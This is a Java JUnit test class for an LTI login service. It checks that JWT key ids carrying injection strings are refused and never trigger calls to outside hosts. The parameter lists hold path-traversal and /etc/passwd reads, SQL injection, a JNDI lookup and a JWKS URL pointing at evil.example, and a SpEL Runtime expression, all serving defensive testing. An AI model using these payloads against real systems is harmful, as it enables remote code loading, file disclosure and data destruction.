package checkpoint.attack;

import static org.assertj.core.api.Assertions.assertThat;

import checkpoint.attack.Visitor.Login;
import checkpoint.launch.message.TestPlatform;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;

/** a key id that would be a path, a statement or an address, if it were anything but a text (RFC 8725 3.10). */
@HostileApp
class A04KeyIdInjectionTest {

    @Autowired
    private Visitor visitor;

    @BeforeEach
    void begin() {
        visitor.begin();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../../../dev/null",
                "/etc/passwd",
                "key-1' OR '1'='1",
                "key-1'; drop table launch; --",
                "https://evil.example/jwks",
                "file:///etc/passwd",
                "${jndi:ldap://evil.example/x}",
                "#{T(java.lang.Runtime).getRuntime()}",
                "KEY-1",
                " key-1",
                "key-1 ",
                "key-1\u0000",
                "key\u20111",
                "\uff4bey-1",
                "*",
                "%6bey-1"
            })
    void a_key_id_is_found_as_it_is_written_or_not_at_all(String kid) {
        visitor.assertRefused(401, "LTI-123", () -> {
            Login login = visitor.login();
            JWSHeader header =
                    new JWSHeader.Builder(JWSAlgorithm.RS256).keyID(kid).build();
            return visitor.answer(login, TestPlatform.sign(header, visitor.student(login), Platform.SCHOOL.key()));
        });
        assertThat(visitor.wire().calls())
                .allMatch(call -> call.uri().toString().equals(Platform.SCHOOL.address("/jwks")));
    }

    @ParameterizedTest
    @ValueSource(strings = {"\"\"", "null", "1", "[\"key-1\"]", "{\"key-1\":true}", "true"})
    void a_key_id_that_is_not_a_text_is_none(String kid) {
        visitor.assertRefused(401, "LTI-122", () -> {
            Login login = visitor.login();
            String header = "{\"alg\":\"RS256\",\"kid\":" + kid + "}";
            return visitor.answer(login, Platform.SCHOOL.signUnder(header, visitor.student(login)));
        });
    }

    @Test
    void a_key_id_of_ten_thousand_characters_is_not_looked_up() {
        visitor.assertRefused(400, "LTI-120", () -> {
            Login login = visitor.login();
            String header = "{\"alg\":\"RS256\",\"kid\":\"" + "k".repeat(10_000) + "\"}";
            return visitor.answer(login, Platform.SCHOOL.signUnder(header, visitor.student(login)));
        });
    }
}
